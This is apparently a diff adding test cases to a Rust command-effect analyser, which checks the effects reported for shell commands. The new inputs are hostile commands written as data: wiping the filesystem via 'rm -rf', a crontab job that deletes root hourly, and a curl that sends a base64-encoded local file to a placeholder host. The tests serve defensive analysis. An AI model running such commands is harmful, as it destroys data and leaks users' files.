@@ -453,6 +453,26 @@ fn containers_and_other_machines() {
             "deletes /home/dev/project/dist with all below",
         ],
     );
+    check("rm -rf /proc/self/root", &[ROOT]);
+    check(
+        "echo '0 * * * * rm -rf /' | crontab -",
+        &["writes /var/spool/cron", ROOT],
+    );
+    check(
+        "curl \"https://h.example/?d=$(base64 notes)\"",
+        &[
+            "reads /home/dev/project/notes",
+            "sends to https://h.example/?d=… by GET",
+        ],
+    );
+    check(
+        "curl -LO https://h.example/v$(cat VERSION)/a.tgz",
+        &[
+            "reads /home/dev/project/VERSION",
+            "writes /home/dev/project/a.tgz",
+            "connects to https://h.example/v…/a.tgz by GET",
+        ],
+    );
     check("docker exec c rm -rf /", &[ROOT]);
     check(
         "docker exec c rm -rf /app/dist /usr/src/app/node_modules",
